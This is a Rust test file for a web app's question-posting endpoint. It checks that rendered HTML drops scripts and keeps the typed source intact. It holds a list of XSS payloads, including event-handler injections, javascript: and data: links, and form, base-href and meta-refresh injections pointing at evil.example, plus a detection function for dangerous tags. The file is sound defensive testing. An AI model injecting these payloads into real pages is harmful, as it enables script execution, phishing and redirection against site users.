use crate::support::{TestApp, json};

/// None of this may run when the page is shown.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" jav&#x0A;ascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1))",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://x.example/a.png)",
    "<javascript:alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<p id=\"root\" class=\"mantine-Modal\" onclick=alert(1)>x</p>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
];

/// What stands in no harmless page. Inside of tags only: the text of an attack may be shown.
fn dangers(html: &str) -> Vec<String> {
    let tags = html
        .split('<')
        .skip(1)
        .map(|rest| rest.split('>').next().unwrap_or_default().to_lowercase());
    tags.filter(|tag| {
        let name = tag
            .trim_start_matches('/')
            .split([' ', '\n', '/'])
            .next()
            .unwrap_or_default();
        let forbidden = [
            "script", "style", "iframe", "form", "svg", "math", "object", "embed", "base", "meta",
            "template", "link",
        ];
        forbidden.contains(&name)
            || outside_of_quotes(tag).contains(" on")
            || tag.contains("javascript:")
            || tag.contains("vbscript:")
            || tag.contains("data:")
            || tag.contains("style=")
            || tag.contains("srcdoc")
    })
    .collect()
}

fn outside_of_quotes(tag: &str) -> String {
    tag.split('"').step_by(2).collect()
}

#[test]
fn no_text_brings_a_script_into_the_page() {
    let app = TestApp::start();
    let alice = app.member("alice");
    let space = app.space("Workshop");
    for attack in ATTACKS {
        let body = json!({"space_id": space.id, "title": "A page", "body": format!("{attack}\n\nfine")});
        let question = alice.post("/questions", body).expect(201);
        let html = question.string("/body_html");
        assert_eq!(dangers(&html), Vec::<String>::new(), "{attack}\n{html}");
        assert_eq!(
            question.string("/body"),
            format!("{attack}\n\nfine"),
            "the source is kept as it was typed"
        );
    }
}

#[test]
fn a_title_or_name_with_markup_is_only_text() {
    let app = TestApp::start();
    let alice = app.member("alice");
    let space = app.space("Workshop");
    let title = "<img src=x onerror=alert(1)> & <b>bold</b>";
    let question = alice
        .post(
            "/questions",
            json!({"space_id": space.id, "title": title, "body": "B"}),
        )
        .expect(201);
    assert_eq!(question.string("/title"), title);
    assert!(question.header("content-type").starts_with("application/json"));
    assert_eq!(question.header("x-content-type-options"), "nosniff");
}
